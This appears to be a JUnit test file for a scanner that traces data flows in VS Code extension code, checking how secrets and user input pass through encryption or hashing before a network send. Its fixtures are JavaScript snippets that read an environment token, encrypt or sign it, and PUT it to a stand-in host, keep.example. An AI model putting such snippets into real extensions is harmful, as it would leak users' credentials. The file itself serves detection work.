package dev.vsxray.scanner.javascript.flow;

import static org.assertj.core.api.Assertions.assertThat;

import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/** What comes out of a cipher is the data that went in; the key stays in it. */
class CiphersTest {

    private static final String SEND = "fetch('https://keep.example/k', { method: 'PUT', body: out });\n})();";

    private static Analysis sending(String out) {
        return Analysis.ofActivate("""
                (async () => {
                const crypto = require('crypto');
                const secret = process.env.ACME_TOKEN, typed = await vscode.window.showInputBox();
                """ + out + SEND);
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "const one = crypto.createCipheriv('aes-256-gcm', secret, crypto.randomBytes(12)); const out = Buffer.concat([one.update(typed), one.final()]);",
                "const key = await crypto.subtle.importKey('raw', secret, 'AES-GCM', false, ['encrypt']); const out = await crypto.subtle.encrypt({ name: 'AES-GCM' }, key, new TextEncoder().encode(typed));",
            })
    void aKeyStaysInIt(String out) {
        Analysis analysis = sending(out);

        assertThat(analysis.flows("user-input", "network-send"))
                .isNotEmpty()
                .allSatisfy(flow -> assertThat(flow.through()).contains("encrypt"));
        assertThat(analysis.flows("environment-secret", "network-send")).isEmpty();
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "const one = crypto.createCipheriv('aes-256-gcm', typed, crypto.randomBytes(12)); const out = Buffer.concat([one.update(secret), one.final()]);",
                "const key = await crypto.subtle.importKey('raw', typed, 'AES-GCM', false, ['encrypt']); const out = await crypto.subtle.encrypt({ name: 'AES-GCM' }, key, new TextEncoder().encode(secret));",
            })
    void aSecretThatIsPutIntoItComesOutEnciphered(String out) {
        Analysis analysis = sending(out);

        assertThat(analysis.flows("environment-secret", "network-send"))
                .isNotEmpty()
                .allSatisfy(flow -> assertThat(flow.through()).contains("encrypt"));
        assertThat(analysis.flows("user-input", "network-send")).isEmpty();
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "const out = crypto.createHmac('sha256', secret).update('x').digest('hex');",
                "const out = crypto.scryptSync(secret, 'salt', 32);",
                "const sign = crypto.createSign('sha256'); sign.update('x'); const out = sign.sign(secret);",
            })
    void whatIsSignedWithASecretDoesNotShowIt(String out) {
        assertThat(sending(out).flows("environment-secret", "network-send"))
                .allSatisfy(flow -> assertThat(flow.through()).contains("hash"));
    }
}
